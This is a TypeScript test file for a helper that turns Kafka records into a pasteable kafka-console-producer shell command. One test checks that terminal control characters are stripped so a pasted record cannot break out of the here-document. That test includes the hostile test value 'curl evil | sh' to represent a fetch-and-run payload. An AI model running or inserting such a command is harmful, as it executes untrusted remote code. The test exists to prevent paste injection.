import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { consoleProducerCommand } from '../../../../src/vscode/tail/copy/consoleProducerCommand.ts';
import { consoleRecord } from '../../../support/consoleRecord.ts';

describe('a kafka-console-producer command', () => {
  it('has a line for each record', () => {
    assert.equal(
      consoleProducerCommand(['h:1'], 'orders', [
        consoleRecord('a', '{"n":1}'),
        consoleRecord('b', 'x y'),
      ]).text,
      "kafka-console-producer.sh --bootstrap-server h:1 --topic orders --property parse.key=true --property 'key.separator=|' <<'END'\n" +
        'a|{"n":1}\nb|x y\nEND\n',
    );
  });

  it('needs no properties where there are only values, and ends with no line of its own', () => {
    assert.equal(
      consoleProducerCommand(['h:1'], 'o', [consoleRecord(null, 'END')]).text,
      "kafka-console-producer.sh --bootstrap-server h:1 --topic o <<'END_'\nEND\nEND_\n",
    );
  });

  it('chooses separators and a word for null that no text has', () => {
    const { text } = consoleProducerCommand(['h:1'], 'o', [
      consoleRecord('a|b', null, [['x:y', 'null']]),
      consoleRecord(null, 'null', [['z', null]]),
      consoleRecord('k', 'v'),
    ]);
    assert.match(text, /null\.marker=NULL/);
    assert.match(text, /key\.separator=[^|]/);
    assert.match(text, /headers\.key\.separator=[^:]/);
  });

  it('leaves out what a line cannot carry', () => {
    const binary = { ...consoleRecord('k', ''), value: () => Uint8Array.of(0xff) };
    const { text, leftOut } = consoleProducerCommand(['h:1'], 'o', [
      consoleRecord('k', 'a\nb'),
      consoleRecord('k', 'good'),
      binary,
    ]);
    assert.equal(leftOut, 2);
    assert.match(text, /\nk\|good\nEND\n$/);
    assert.deepEqual(consoleProducerCommand(['h:1'], 'o', [binary]), { text: '', leftOut: 1 });
  });

  it('leaves out what a terminal would act on when the command is pasted', () => {
    // Ctrl+C ends the here-document, and the shell runs what follows.
    for (const control of ['\x03', '\x04', '\x1b[201~', '\x7f', '\x9b']) {
      const { text, leftOut } = consoleProducerCommand(['h:1'], 'o', [
        consoleRecord('k', control),
        consoleRecord('k', 'curl evil | sh'),
        consoleRecord('tab\tin key', 'v'),
      ]);
      assert.equal(leftOut, 1);
      assert.ok(!text.includes(control));
      assert.match(text, /tab\tin key/);
    }
  });
});
